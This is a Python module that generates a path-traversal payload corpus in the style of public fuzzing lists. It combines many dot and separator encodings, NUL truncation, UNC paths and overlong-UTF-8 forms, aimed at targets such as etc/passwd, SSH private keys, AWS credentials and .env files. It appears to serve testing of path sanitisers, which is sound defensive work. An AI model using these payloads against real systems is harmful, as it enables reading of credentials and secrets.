"""A path-traversal corpus, generated the way the public fuzzing lists are (fuzzdb's
``traversals-8-deep-exotic-encoding``, PayloadsAllTheThings' "Directory Traversal"): every encoding
of a dot and of a separator that those lists use, combined up to eight levels deep, in front of a
set of targets, plus the absolute, drive, UNC, NUL-truncation and overlong-UTF-8 forms they list.

Generated, not copied: the lists are combinatorial, and a generator states the rule that the file
of a few thousand lines only shows by example.
"""

from __future__ import annotations

from itertools import product

#: Encodings of ``.`` (plain, URL, double URL, overlong UTF-8, IIS %u, fullwidth, one-dot leaders).
DOTS = [".", "%2e", "%2E", "%252e", "%c0%2e", "%c0%ae", "%e0%40%ae", "%uff0e", "\uff0e", "\u2024", "0x2e"]
#: Encodings of the separator.
SEPARATORS = ["/", "\\", "%2f", "%2F", "%5c", "%252f", "%255c", "%c0%af", "%c1%9c", "%c0%5c", "%u2215",
              "\u2215", "\uff0f", "\u2216", "//", "/./", "\\/", "0x2f", "%00/", ";/"]
#: What an attacker aims at: outside the root, a credential store, a protected place inside it.
TARGETS = ["etc/passwd", "outside/secret.txt", ".ssh/id_rsa", ".aws/credentials", ".env", ".git/config",
           "mcp.json"]


def _dotdots() -> list[str]:
    out = []
    for d1, d2 in product(DOTS, DOTS):
        if d1 == d2 or (d1 == "." or d2 == "."):
            out.append(d1 + d2)
    out += ["...", "....", "..%00", "..%01", ".%2e", "%2e.", "..;", "..\u200b"]
    return sorted(set(out))


def corpus(depths: tuple[int, ...] = (1, 2, 3, 8)) -> list[str]:
    """Every payload (a few thousand strings), deterministic order."""
    out: set[str] = set()
    for dd, sep, depth, target in product(_dotdots(), SEPARATORS, depths, TARGETS):
        out.add((dd + sep) * depth + target)
    for target in TARGETS:
        out.update({
            "/" + target, "//" + target, "\\\\server\\share\\" + target, "C:\\" + target, "c:/" + target,
            "file:///" + target, "~/" + target, "~root/" + target, target + "%00.txt", target + "\x00.txt",
            "./" + target, target + "/.", target + "/..", "a/../" + target, "a/./../../" + target,
            "%2e%2e%2f" + target, "..%2f" + target, "..%5c" + target, "....//" + target,
            "..././" + target, "...\\.\\" + target, target.upper(), target.replace("/", "/./"),
            target + " ", target + ".", " " + target, target.replace(".", "\uff0e"),
        })
    return sorted(out)
